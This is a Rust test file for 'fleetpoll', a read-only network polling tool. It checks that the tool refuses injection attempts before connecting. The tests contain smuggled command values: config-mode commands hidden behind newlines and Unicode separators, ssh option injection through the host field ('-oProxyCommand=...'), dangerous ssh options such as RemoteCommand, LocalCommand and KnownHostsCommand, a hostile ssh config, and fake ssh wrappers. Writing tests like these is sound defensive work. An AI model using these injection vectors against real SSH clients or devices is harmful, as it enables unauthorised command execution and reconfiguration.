//! Read-only by construction, attacked: every way we know to make fleetpoll type something
//! other than one read-only line, or make `ssh` run or forward anything — through the
//! playbook, the inventory's credentials and hosts, `ssh.options`, Unicode, and the effective
//! OpenSSH configuration. Each attempt is run as `fleetpoll poll` against a live simulated
//! device and must be refused before anything connects: exit 3, no CSV, an error naming the
//! file, line and field, and never the secret. Then a clean poll of the same device proves it
//! was reachable, and the simulator's command log proves it only ever saw read-only lines.

mod common;

use fleetpoll::sim::Scenario;
use fleetpoll::Platform;
use std::path::{Path, PathBuf};

/// One attempt: what it changes, and what the refusal must say.
struct Attempt {
    what: &'static str,
    /// A playbook command (YAML double-quoted string body), or `None` for the clean one.
    command: Option<&'static str>,
    /// Lines appended to the device's inventory entry (4-space indented keys).
    device: &'static str,
    /// Every fragment the error must contain.
    says: &'static [&'static str],
    /// Environment for the run (e.g. a secret with a line break).
    env: &'static [(&'static str, &'static str)],
    /// Text that must never be printed (a secret's tail).
    secret: Option<&'static str>,
}

const fn pb(what: &'static str, command: &'static str, says: &'static [&'static str]) -> Attempt {
    Attempt {
        what,
        command: Some(command),
        device: "",
        says,
        env: &[],
        secret: None,
    }
}

const fn inv(what: &'static str, device: &'static str, says: &'static [&'static str]) -> Attempt {
    Attempt {
        what,
        command: None,
        device,
        says,
        env: &[],
        secret: None,
    }
}

const NOT_RO: &[&str] = &[
    "pb.yaml:",
    "platforms.cisco_ios.commands[1].command",
    "not a read-only command",
];
const ONE_LINE: &[&str] = &["pb.yaml:", "commands[1].command", "control character"];
const FILTER: &[&str] = &["pb.yaml:", "commands[1].command", "output filter"];
const ASCII: &[&str] = &["pb.yaml:", "commands[1].command", "non-ASCII"];
const OPTION: &[&str] = &[
    "inv.yaml:",
    "devices[0].ssh.options[0]",
    "not allowed in ssh.options",
];
const FORM: &[&str] = &["inv.yaml:", "devices[0].ssh.options[0]", "Key=Value"];

fn attempts() -> Vec<Attempt> {
    vec![
        // The playbook.
        pb("configure", "configure terminal", NOT_RO),
        pb("abbreviated configure", "conf t", NOT_RO),
        pb("padded configure", "   configure   terminal ", NOT_RO),
        pb("clear", "clear crypto sa", NOT_RO),
        pb("reload", "reload in 5", NOT_RO),
        pb("write", "write memory", NOT_RO),
        pb("copy", "copy running-config tftp://192.0.2.9/x", NOT_RO),
        pb("debug", "debug crypto isakmp", NOT_RO),
        pb("no", "no logging console", NOT_RO),
        pb("newline", "show version\\nconfigure terminal", ONE_LINE),
        pb("carriage return", "show version\\rconf t", ONE_LINE),
        pb("NEL (U+0085)", "show version\\u0085conf t", ONE_LINE),
        pb("line separator", "show version\\u2028configure terminal", ONE_LINE),
        pb("paragraph separator", "show version\\u2029configure terminal", ONE_LINE),
        pb("escape sequence", "show version\\e[2K\\rconf t", ONE_LINE),
        pb("tab", "show\\tversion", ONE_LINE),
        pb("redirect", "show running-config | redirect flash:x", FILTER),
        pb("abbreviated redirect", "show running-config | red flash:x", FILTER),
        pb("tee", "show running-config | tee flash:x", FILTER),
        pb("append", "show running-config | append flash:x", FILTER),
        pb("second filter", "show running-config | include a | redirect flash:x", FILTER),
        pb("> redirection", "show version > flash:x", &["commands[1].command", "`>`"]),
        pb("full-width letters", "ｓｈｏｗ version", ASCII),
        pb("right-to-left override", "show version\\u202e", ASCII),
        pb("zero-width space", "show\\u200bversion", ASCII),
        // The inventory: what is typed at prompts, and what reaches ssh's command line.
        inv(
            "username with a newline",
            "    username: \"netops\\nconfigure terminal\"\n",
            &["inv.yaml:", "username", "must be one line"],
        ),
        Attempt {
            what: "password from the environment with a newline",
            command: None,
            device: "    password: {env: FP_BYPASS_PW}\n",
            says: &["inv.yaml:", "devices[0].password", "must be one line"],
            env: &[("FP_BYPASS_PW", "pw-top\nconfigure terminal")],
            secret: Some("pw-top"),
        },
        Attempt {
            what: "enable secret from the environment with a newline",
            command: None,
            device: "    enable_secret: {env: FP_BYPASS_EN}\n",
            says: &["inv.yaml:", "devices[0].enable_secret", "must be one line"],
            env: &[("FP_BYPASS_EN", "en-top\r\nconf t\r\n")],
            secret: Some("en-top"),
        },
        Attempt {
            what: "enable secret with a line separator",
            command: None,
            device: "    enable_secret: \"en-sep\\u2028configure terminal\"\n",
            says: &["inv.yaml:", "devices[0].enable_secret", "U+2028"],
            env: &[],
            secret: Some("en-sep"),
        },
        Attempt {
            what: "password with NEL",
            command: None,
            device: "    password: \"pw-nel\\u0085conf t\"\n",
            says: &["inv.yaml:", "devices[0].password", "U+0085"],
            env: &[],
            secret: Some("pw-nel"),
        },
        inv(
            "host that is an ssh option",
            "    transport: openssh\n    host: \"-oProxyCommand=touch /tmp/fleetpoll-pwned\"\n",
            &["inv.yaml:", "devices[0].host", "starts with `-`"],
        ),
        inv(
            "host with an option after a space",
            "    transport: openssh\n    host: \"127.0.0.1 -oProxyCommand=touch\"\n",
            &["inv.yaml:", "devices[0].host", "U+0020"],
        ),
        // ssh.options (the OpenSSH transport).
        inv(
            "RemoteCommand",
            "    transport: openssh\n    ssh: {options: [\"RemoteCommand=configure terminal\"]}\n",
            OPTION,
        ),
        inv(
            "RemoteCommand in another case, with spaces",
            "    transport: openssh\n    ssh: {options: [\" remotecommand = conf t\"]}\n",
            OPTION,
        ),
        inv(
            "LocalCommand",
            "    transport: openssh\n    ssh: {options: [\"LocalCommand=touch /tmp/x\"]}\n",
            OPTION,
        ),
        inv(
            "PermitLocalCommand",
            "    transport: openssh\n    ssh: {options: [PermitLocalCommand=yes]}\n",
            OPTION,
        ),
        inv(
            "LocalForward",
            "    transport: openssh\n    ssh: {options: [\"LocalForward=8080:127.0.0.1:80\"]}\n",
            OPTION,
        ),
        inv(
            "DynamicForward",
            "    transport: openssh\n    ssh: {options: [DynamicForward=1080]}\n",
            OPTION,
        ),
        inv(
            "Tunnel",
            "    transport: openssh\n    ssh: {options: [Tunnel=point-to-point]}\n",
            OPTION,
        ),
        inv(
            "SessionType none",
            "    transport: openssh\n    ssh: {options: [SessionType=none]}\n",
            OPTION,
        ),
        inv(
            "connection sharing",
            "    transport: openssh\n    ssh: {options: [\"ControlPath=/tmp/cm-%r@%h\"]}\n",
            OPTION,
        ),
        inv(
            "KnownHostsCommand",
            "    transport: openssh\n    ssh: {options: [\"KnownHostsCommand=/bin/sh -c id\"]}\n",
            OPTION,
        ),
        inv(
            "Include",
            "    transport: openssh\n    ssh: {options: [Include=/tmp/evil.conf]}\n",
            OPTION,
        ),
        inv(
            "Match exec",
            "    transport: openssh\n    ssh: {options: [\"Match=exec touch /tmp/x\"]}\n",
            OPTION,
        ),
        inv(
            "quieting the log fleetpoll reads",
            "    transport: openssh\n    ssh: {options: [LogLevel=QUIET]}\n",
            OPTION,
        ),
        inv(
            "a quoted keyword",
            "    transport: openssh\n    ssh: {options: [\"\\\"RemoteCommand\\\"=conf t\"]}\n",
            FORM,
        ),
        inv(
            "an option as a command-line flag",
            "    transport: openssh\n    ssh: {options: [\"-oRemoteCommand=conf t\"]}\n",
            FORM,
        ),
        inv(
            "a second option after a newline",
            "    transport: openssh\n    ssh: {options: [\"ConnectTimeout=3\\nRemoteCommand=conf t\"]}\n",
            FORM,
        ),
    ]
}

fn playbook(dir: &Path, command: Option<&str>) -> PathBuf {
    let mut text = String::from(
        "name: bypass\nplatforms:\n  cisco_ios:\n    commands:\n      - command: show version\n",
    );
    if let Some(c) = command {
        text.push_str(&format!("      - command: \"{c}\"\n"));
    }
    let path = dir.join("pb.yaml");
    std::fs::write(&path, text).unwrap();
    path
}

fn poll(
    dir: &Path,
    inv: &Path,
    pb: &Path,
    env: &[(&str, &str)],
    path_prefix: Option<&Path>,
) -> (Option<i32>, String, PathBuf) {
    let csv = dir.join("health.csv");
    let _ = std::fs::remove_file(&csv);
    let mut c = common::bin::fleetpoll();
    c.args(["poll", "-i"])
        .arg(inv)
        .arg("-p")
        .arg(pb)
        .arg("-o")
        .arg(&csv);
    for (k, v) in env {
        c.env(k, v);
    }
    if let Some(p) = path_prefix {
        let path = std::env::var("PATH").unwrap_or_default();
        c.env("PATH", format!("{}:{path}", p.display()));
    }
    let out = common::bin::output(&mut c);
    (out.status.code(), common::bin::stderr(&out), csv)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_bypass_attempt_is_refused_before_anything_connects() {
    let fleet = common::sim::fleet_of(&[("r1", Platform::CiscoIos, Scenario::Healthy)]).await;
    let dir = tempfile::tempdir().unwrap();
    let base = common::sim::inventory(&fleet, &dir.path().join("base.yaml"), "{device: 60s}");
    let base_text = std::fs::read_to_string(&base).unwrap();
    let all = attempts();
    assert!(all.len() >= 30, "{} attempts", all.len());
    let d = dir.path().to_path_buf();
    let failures = tokio::task::spawn_blocking(move || {
        let mut failures = Vec::new();
        for a in &all {
            // The device's own settings come after the shared ones, so they win; an attempt
            // that sets the host replaces the device's.
            let inv = d.join("inv.yaml");
            let mut text = base_text.clone();
            if a.device.contains("    host:") {
                text = text.replace("    host: 127.0.0.1\n", "");
            }
            std::fs::write(&inv, format!("{text}{}", a.device)).unwrap();
            let pb = playbook(&d, a.command);
            let (code, stderr, csv) = poll(&d, &inv, &pb, a.env, None);
            let mut wrong = Vec::new();
            if code != Some(3) {
                wrong.push(format!("exit {code:?}, not 3"));
            }
            if csv.exists() {
                wrong.push("a CSV was written".into());
            }
            for s in a.says {
                if !stderr.contains(s) {
                    wrong.push(format!("no `{s}` in the error"));
                }
            }
            if let Some(secret) = a.secret {
                if stderr.contains(secret) {
                    wrong.push("the secret was printed".into());
                }
            }
            if !wrong.is_empty() {
                failures.push(format!(
                    "{}: {}\n    {}",
                    a.what,
                    wrong.join("; "),
                    stderr.trim()
                ));
            }
        }
        failures
    })
    .await
    .unwrap();
    assert!(
        failures.is_empty(),
        "not refused as they must be:\n{}",
        failures.join("\n")
    );

    // The device was there all along: the same inventory and playbook, clean, poll it.
    let pb = playbook(dir.path(), None);
    let (code, stderr, csv) = poll(dir.path(), &base, &pb, &[], None);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(csv.exists());
    // And it only ever saw read-only lines (this process's simulator).
    assert_eq!(
        fleetpoll::sim::command_log::violations(),
        Vec::<String>::new()
    );
    fleet.shutdown().await;
}

/// An `ssh` that does not honour fleetpoll's options (an old client, a wrapper): `ssh -G` says
/// it would still run a remote command or forward a port, so the run is refused (exit 3,
/// naming the device) before the first connection. A real `ssh` fed a hostile configuration
/// through `-F` is neutralised by the safety options: the poll goes through, and the device
/// sees only read-only lines.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_effective_openssh_configuration_is_checked_with_ssh_g() {
    use std::os::unix::fs::PermissionsExt;
    let Some(real_ssh) = which("ssh") else {
        eprintln!("skipped: no ssh client");
        return;
    };
    let fleet = common::sim::fleet_of(&[("r1", Platform::CiscoIos, Scenario::Healthy)]).await;
    let dir = tempfile::tempdir().unwrap();
    let base = common::sim::inventory(&fleet, &dir.path().join("inv.yaml"), "{device: 60s}");
    common::edit(&base, |text| {
        text.replace("defaults:\n", "defaults:\n  transport: openssh\n")
    });
    let pb = playbook(dir.path(), None);

    let bin = |name: &str, script: String| {
        let d = dir.path().join(name);
        std::fs::create_dir_all(&d).unwrap();
        let p = d.join("ssh");
        std::fs::write(&p, script).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        d
    };
    for (what, line) in [
        ("remote command", "remotecommand configure terminal"),
        ("forwarding", "localforward 8080 [127.0.0.1]:80"),
    ] {
        // Passes everything through to the real ssh, but lies on `-G`.
        let fake = bin(
            &format!("fake-{}", what.replace(' ', "-")),
            format!(
                "#!/bin/sh\nif [ \"$1\" = -G ]; then \"{}\" \"$@\" && echo '{line}'; exit $?; fi\nexec \"{}\" \"$@\"\n",
                real_ssh.display(),
                real_ssh.display()
            ),
        );
        let (code, stderr, csv) = poll(dir.path(), &base, &pb, &[], Some(&fake));
        assert_eq!(code, Some(3), "{what}: {stderr}");
        assert!(!csv.exists(), "{what}");
        assert!(stderr.contains("device `r1`"), "{what}: {stderr}");
        assert!(stderr.contains(&format!("`{line}`")), "{what}: {stderr}");
        assert!(stderr.contains("ssh -G"), "{what}: {stderr}");
    }

    // A configuration that tries every trick, given to the real ssh with -F.
    let hostile = dir.path().join("hostile_config");
    std::fs::write(
        &hostile,
        "Host *\n  RemoteCommand configure terminal\n  LocalForward 18080 127.0.0.1:80\n  DynamicForward 11080\n  PermitLocalCommand yes\n  LocalCommand touch /tmp/fleetpoll-localcommand\n  ControlMaster auto\n  ControlPath /tmp/fleetpoll-cm-%C\n  SessionType none\n  ForwardAgent yes\n",
    )
    .unwrap();
    let wrapper = bin(
        "hostile",
        format!(
            "#!/bin/sh\nexec \"{}\" -F \"{}\" \"$@\"\n",
            real_ssh.display(),
            hostile.display()
        ),
    );
    let (code, stderr, _) = poll(dir.path(), &base, &pb, &[], Some(&wrapper));
    assert_eq!(
        code,
        Some(0),
        "the safety options win over the config: {stderr}"
    );
    assert_eq!(
        fleetpoll::sim::command_log::violations(),
        Vec::<String>::new()
    );
    fleet.shutdown().await;
}

fn which(program: &str) -> Option<PathBuf> {
    std::env::var_os("PATH").and_then(|p| {
        std::env::split_paths(&p)
            .map(|d| d.join(program))
            .find(|f| f.is_file())
    })
}
